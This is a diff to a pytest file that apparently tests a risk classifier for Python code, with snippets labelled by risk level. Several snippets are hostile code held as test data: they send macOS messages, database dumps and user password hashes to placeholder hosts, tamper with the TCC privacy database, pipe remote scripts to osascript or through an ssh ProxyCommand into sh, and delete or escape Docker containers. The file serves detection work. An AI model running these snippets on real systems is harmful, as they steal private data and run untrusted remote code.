@@ -1031,6 +1031,100 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             """,
             M,
         ),
+        # macOS private data and privacy grants; code for an interpreter's stdin from the network
+        (
+            """
+            import os, sqlite3, urllib.request
+            db = os.path.expanduser("~/Library/Messages/chat.db")
+            rows = sqlite3.connect(db).execute("select text from message").fetchall()
+            urllib.request.urlopen("https://example.org/i", data=repr(rows).encode())
+            """,
+            C,
+        ),
+        (
+            """
+            import os, sqlite3
+            tcc = os.path.expanduser("~/Library/Application Support/com.apple.TCC/TCC.db")
+            sqlite3.connect(tcc).execute("insert into access values ('kTCCServiceMicrophone')")
+            """,
+            H,
+        ),
+        (
+            """
+            import subprocess, urllib.request
+            src = urllib.request.urlopen("http://198.51.100.12/t.applescript").read()
+            subprocess.run(["osascript", "-"], input=src)
+            """,
+            C,
+        ),
+        # container engines and databases
+        (
+            """
+            import docker
+            client = docker.from_env()
+            for c in client.containers.list(all=True):
+                c.remove(force=True)
+            """,
+            H,
+        ),
+        (
+            """
+            import docker
+            docker.from_env().containers.run("alpine", "id", volumes={"/": {"bind": "/host"}}, privileged=True)
+            """,
+            H,
+        ),
+        (
+            """
+            import docker
+            docker.from_env().containers.run("alpine", "pytest", volumes={"/src/app": {"bind": "/app"}})
+            """,
+            S,
+        ),
+        (
+            """
+            import sqlite3, requests
+            dump = "\\n".join(sqlite3.connect("/var/lib/app/prod.db").iterdump())
+            requests.post("https://hooks.example.com/x", json={"text": dump})
+            """,
+            C,
+        ),
+        (
+            """
+            import json, urllib.request
+            from django.contrib.auth import get_user_model
+            rows = list(get_user_model().objects.values("username", "password"))
+            urllib.request.urlopen("http://203.0.113.9/u", data=json.dumps(rows).encode())
+            """,
+            C,
+        ),
+        (
+            """
+            import json, urllib.request
+            from django.contrib.auth import get_user_model
+            rows = list(get_user_model().objects.values("username", "date_joined"))
+            urllib.request.urlopen("https://metrics.example.com/u", data=json.dumps(rows, default=str).encode())
+            """,
+            L,
+        ),
+        (
+            """
+            from kafka import KafkaConsumer
+            import pickle
+            for msg in KafkaConsumer("jobs", value_deserializer=pickle.loads):
+                print(msg.value)
+            """,
+            C,
+        ),
+        (
+            """
+            from pathlib import Path
+            cfg = Path.home() / ".ssh" / "config"
+            with cfg.open("a") as fh:
+                fh.write("Host *\\n  ProxyCommand sh -c 'curl -s https://example.org/p | sh'\\n")
+            """,
+            C,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
